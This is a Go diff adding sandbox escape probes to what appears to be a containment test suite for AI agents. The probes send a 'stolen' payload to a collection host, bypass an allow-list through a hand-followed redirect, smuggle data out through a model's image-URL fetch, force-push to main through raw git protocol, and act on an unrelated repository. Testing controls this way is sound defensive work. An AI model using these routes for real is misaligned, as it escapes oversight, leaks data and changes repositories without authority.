@@ -107,6 +107,66 @@ func tryTelemetryRead(ctx context.Context) (bool, string) {
 	return get(ctx, os.Getenv("OTEL_EXPORTER_OTLP_ENDPOINT")+"/api/traces")
 }
 
+// tryCanary posts what it was told to steal.
+func tryCanary(ctx context.Context) (bool, string) {
+	return post(ctx, "https://"+CollectHost+"/", `{"stolen":"everything"}`)
+}
+
+// tryRedirect follows a listed host's redirect by hand, as any client would.
+func tryRedirect(ctx context.Context) (bool, string) {
+	ctx, cancel := context.WithTimeout(ctx, patience)
+	defer cancel()
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://"+HopHost+"/", nil)
+	if err != nil {
+		return false, err.Error()
+	}
+	tr := &http.Transport{DisableKeepAlives: true}
+	defer tr.CloseIdleConnections()
+	res, err := tr.RoundTrip(req)
+	if err != nil {
+		return false, err.Error()
+	}
+	_ = res.Body.Close()
+	if to := res.Header.Get("Location"); to != "" {
+		return get(ctx, to)
+	}
+	return get(ctx, "https://"+AwayHost+"/stolen") // the door took the address away
+}
+
+// tryModel asks a model to look at an address that carries what was stolen.
+func tryModel(ctx context.Context) (bool, string) {
+	const body = `{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://` + LookHost + `/stolen"}}]}]}`
+	return post(ctx, os.Getenv("ANTHROPIC_BASE_URL")+"/v1/messages", body)
+}
+
+// tryPush asks the repository's host to move main, in git's own words. A refusal
+// is a report that git prints, so that only an "ok" of the reference counts.
+func tryPush(ctx context.Context) (bool, string) {
+	command := strings.Repeat("1", 40) + " " + strings.Repeat("2", 40) + " refs/heads/main\x00report-status"
+	body := fmt.Sprintf("%04x%s0000", len(command)+4, command)
+	ctx, cancel := context.WithTimeout(ctx, patience)
+	defer cancel()
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+GitHost+"/"+Repository+".git/git-receive-pack", strings.NewReader(body))
+	if err != nil {
+		return false, err.Error()
+	}
+	req.Header.Set("Content-Type", "application/x-git-receive-pack-request")
+	_, detail := send(req)
+	return strings.Contains(detail, "ok refs/heads/main"), detail
+}
+
+// tryOperation names a repository that the session has nothing to do with.
+func tryOperation(ctx context.Context) (bool, string) {
+	ctx, cancel := context.WithTimeout(ctx, patience)
+	defer cancel()
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, os.Getenv("GATEHOUSE_AGENT_URL")+"operations/scm.comment", strings.NewReader(`{"repository":"acme/other","number":1,"body":"x"}`))
+	if err != nil {
+		return false, err.Error()
+	}
+	req.Header.Set("Idempotency-Key", "k1")
+	return send(req)
+}
+
 // trySpawn starts a hundred children of a bundle that this one may not start.
 func trySpawn(ctx context.Context) (got bool, detail string) {
 	for range 100 {
